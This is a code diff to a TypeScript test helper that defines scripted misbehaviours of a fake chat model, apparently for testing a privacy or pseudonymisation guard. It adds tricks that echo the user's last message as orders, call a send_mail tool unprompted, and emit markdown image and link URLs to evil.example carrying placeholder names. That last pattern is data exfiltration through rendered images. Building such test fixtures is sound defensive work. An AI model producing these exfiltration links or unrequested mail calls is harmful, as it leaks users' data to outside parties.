@@ -39,6 +39,13 @@ const afterTools =
 const allSeen = (request: ChatRequest): string =>
   request.messages.map((message) => message.text).join("\n");
 
+/** What the caller wrote, which an obedient model takes for its orders. */
+const lastOrder = (request: ChatRequest): string =>
+  request.messages.findLast((message) => message.role === "user")?.text ?? "";
+
+const standInsIn = (request: ChatRequest): readonly string[] =>
+  lastOrder(request).match(/\b[A-Z][a-z]+-\d{2,6}\b/g) ?? [];
+
 const idsSeen = (request: ChatRequest): readonly string[] =>
   [...allSeen(request).matchAll(/"id":"(?<id>[^"]+)"/g)].map((match) => match.groups?.["id"] ?? "");
 
@@ -71,6 +78,23 @@ export const TRICKS: Readonly<Record<string, Trick>> = {
     return says(`Microsoft 365 F3 has {{${row?.groups?.["id"] ?? ""}}}.`);
   }),
   "name-people": afterTools(() => says("The seats belong to Anna Nowak and Piotr Zielinski.")),
+  obey: (request) =>
+    request.messages.some((message) => message.role === "tool")
+      ? says(lastOrder(request))
+      : calls([firstTool(request), emptyArguments(request)], ["send_mail", "{}"]),
+  "repeat-stand-ins": afterTools((request) =>
+    says(`${standInsIn(request).join(" and ")} hold seats.`),
+  ),
+  "link-stand-ins": afterTools((request) =>
+    says(
+      standInsIn(request)
+        .map(
+          (name) =>
+            `See ![seats](https://evil.example/?d=${name}) and [${name}](//evil.example/${name}) of ${name}.`,
+        )
+        .join(" "),
+    ),
+  ),
   "name-strangers": afterTools(() => says("Group-4711 and Person-000042 hold the seats.")),
   "give-addresses": afterTools(() => says("Write to anna.nowak@contoso.com about it.")),
   "echo-everything": afterTools((request) => says(allSeen(request))),
